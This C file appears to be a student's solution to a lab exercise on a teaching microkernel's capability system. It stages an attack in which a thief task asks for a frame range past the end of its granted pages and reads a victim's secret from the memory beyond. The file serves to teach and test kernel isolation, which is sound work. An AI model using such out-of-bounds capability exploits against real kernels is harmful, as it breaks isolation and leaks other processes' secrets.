/*
 * A play of your own (exercise 2.8 of lab 2): it succeeds on the kernel with the patch in labs/2-caps/own/kernel, and fails on the
 * one without.
 *
 *     make stage-2 run BOOT=kernel PATCHED=labs/2-caps/own APPEND=root=boot/own
 *     make stage-2 run BOOT=kernel APPEND=root=boot/own
 */
#include "gen/lib/microk/methods.h"
#include "labs/2-caps/attacks/play.h"

extern const struct play play_own;

/* EXERCISE 2.8 an-attack-of-your-own: begin */
#define MARK 0x7972616964ul /* "diary": the victim's page begins with it */
#define RUN 16              /* pages */

/* The thief has a run of pages. The victim's diary is a page of its own, made of the same memory after the run. */
static void set_up(struct task *victim, struct task *thief)
{
	u64 run;

	must(object_make(CAP_FRAME, RUN, &run), "making a run of pages");
	task_give(thief, "run", run, RIGHT_READ, 0);
	task_page(victim, 0, RIGHT_READ | RIGHT_WRITE, NULL);
}

static void write_diary(void)
{
	volatile u64 *diary = (volatile u64 *)PAGE_OF_TASK;

	diary[1] = secret();
	diary[0] = MARK;
	say("a new page in the diary");
	for (;;)
		thread_suspend(SLOT_THREAD);
}

/* The last page is in the run, and as many pages as it has are not too many; from there on they are. */
static void read_on(void)
{
	const struct frame_narrow part = {
		.first = RUN - 1,
		.count = RUN,
		.cnode = SLOT_CNODE,
		.index = TASK_FREE,
		.rights = RIGHT_READ};
	enum microk_status s = frame_narrow(grant_find("run"), &part);
	void *pages;

	say("as many pages as the run has, from its last one on: %s", status_name(s));
	if (s != OK || window_map(TASK_FREE, RUN, RIGHT_READ, 0, &pages) != OK)
		got_nothing();
	for (u64 i = 1; i < RUN; i++) {
		const volatile u64 *page = (const volatile u64 *)((u8 *)pages + i * PAGE_SIZE);

		if (page[0] == MARK)
			stole(page[1]);
	}
	got_nothing();
}

const struct play play_own = {"own", set_up, write_diary, read_on, NULL};
/* EXERCISE 2.8 an-attack-of-your-own: end */
